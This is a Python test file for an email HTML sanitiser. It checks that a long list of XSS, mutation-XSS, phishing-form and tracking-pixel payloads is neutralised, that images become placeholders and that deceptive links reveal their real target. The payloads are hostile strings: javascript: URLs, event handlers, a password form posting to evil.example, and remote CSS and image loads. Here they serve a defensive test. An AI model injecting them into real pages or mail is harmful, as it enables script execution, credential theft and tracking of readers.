"""A page as it may be shown: a table of attacks, pictures that load nothing, links that are true (REALITIES 78)."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailbot.desk.mail import Attachment, InboundMail
from mailbot.mail.html import safe_html as sanitised
from mailbot.mail.safe_html import safe_html

LOGO = Attachment(
    index=2, name="l.png", type="image/png", declared_type="image/png", size=1, sha256="0", content_id="logo@x"
)
HARMLESS_SCHEMES = ("http://", "https://", "mailto:", "cid:")
ATTACKS = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="https://evil.example/p.gif" srcset="https://evil.example/q.gif 2x">',
    '<img lowsrc="https://evil.example/p.gif" dynsrc="https://evil.example/p.gif">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="x" onclick="alert(1)">x</a>',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form action="https://evil.example"><input name=password></form>',
    '<button formaction="javascript:alert(1)">b</button>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/b.gif)}</style>",
    '<div style="background-image:url(https://evil.example/b.gif)">x</div>',
    '<table background="https://evil.example/b.gif"><tr><td>x</td></tr></table>',
    '<body background="https://evil.example/b.gif">x</body>',
    '<video poster="https://evil.example/b.gif" src="https://evil.example/v.mp4"></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "<img src='cid:logo@x' onload='alert(1)'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p id=location class=hide title='x' data-x=1>x</p>",
    '<font color="#ffffff" style="color:#fff">hidden</font>',
    "<x-widget onclick=alert(1)>x</x-widget>",
    "<template><script>alert(1)</script></template>",
    '<a href="https://evil.example" target="_blank" ping="https://evil.example/p">x</a>',
)
ALLOWED = {"dir", "lang", "align", "href", "rel", "alt", "src", "colspan", "rowspan", "start"}


class Inspector(HTMLParser):
    """Notes each tag with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, {name: value or "" for name, value in attrs}))


def shown(page: str, language: str = "ja") -> str:
    return safe_html(InboundMail(html=sanitised(page), language=language, attachments=(LOGO,)))


def assert_harmless(page: str) -> None:
    for tag, attributes in Inspector(page).seen:
        assert tag not in {"script", "style", "iframe", "object", "form", "base", "meta", "link", "svg", "math"}
        assert attributes.keys() <= ALLOWED
        assert attributes.get("href", "https://").startswith(HARMLESS_SCHEMES)
        assert attributes.get("src", "cid:logo@x") == "cid:logo@x"


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_page_runs_loads_or_hides(attack: str) -> None:
    assert_harmless(shown(f"<p>before</p>{attack}<p>after</p>"))
    assert_harmless(shown(attack))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(ATTACKS) | st.text(alphabet="<>/=\"' abisxq&;!-#", max_size=20), max_size=6))
def test_no_mixture_of_attacks_gets_through(pieces: list[str]) -> None:
    assert_harmless(shown("".join(pieces)))


@pytest.mark.parametrize(
    ("page", "text"),
    [
        ('<img src="https://x.example/a.png">', "[画像]"),
        ('<img src="https://x.example/a.png" alt="売上 の\nグラフ">', "[画像: 売上 の グラフ]"),
        ('<img src="cid:other@x" alt="">', "[画像]"),
        ('a<img src="https://t.example/o.gif" width="1" height="1">b', "ab"),
        ('a<img src="https://t.example/o.gif" height="0px">b', "ab"),
        ('<img src="cid:logo@x" alt="会社">', '<img src="cid:logo@x" alt="会社">'),
        ('<span style="display:none">x</span><p hidden>y</p>z', "z"),
        ("", ""),
    ],
)
def test_pictures_are_shown_only_if_they_came_along(page: str, text: str) -> None:
    assert shown(page) == text


def test_the_word_for_a_picture_is_in_the_reader_s_language() -> None:
    mail = InboundMail(html=sanitised('<img src="https://x.example/a.png">'), language="ja")

    assert safe_html(mail, language="en") == "[picture]"
    assert safe_html(InboundMail(html=mail.html)) == "[picture]"


@pytest.mark.parametrize(
    ("page", "behind"),
    [
        (
            '<a href="https://evil.example/?a=1&amp;b=2">https://bank.example</a>',
            " &lt;https://evil.example/?a=1&amp;b=2&gt;",
        ),
        ('<a href="https://evil.example/"><img src="https://x.example/b.png"></a>', " &lt;https://evil.example/&gt;"),
        ('<a href="https://evil.example/"><b></b></a>', " &lt;https://evil.example/&gt;"),
        ('<a href="https://good.example/">good.example</a>', ""),
        ('<a href="mailto:a@b.example">a@b.example</a>', ""),
        ('<a href="javascript:x()">x</a>', ""),
    ],
)
def test_links_tell_where_they_lead(page: str, behind: str) -> None:
    assert shown(page).partition("</a>")[2] == behind
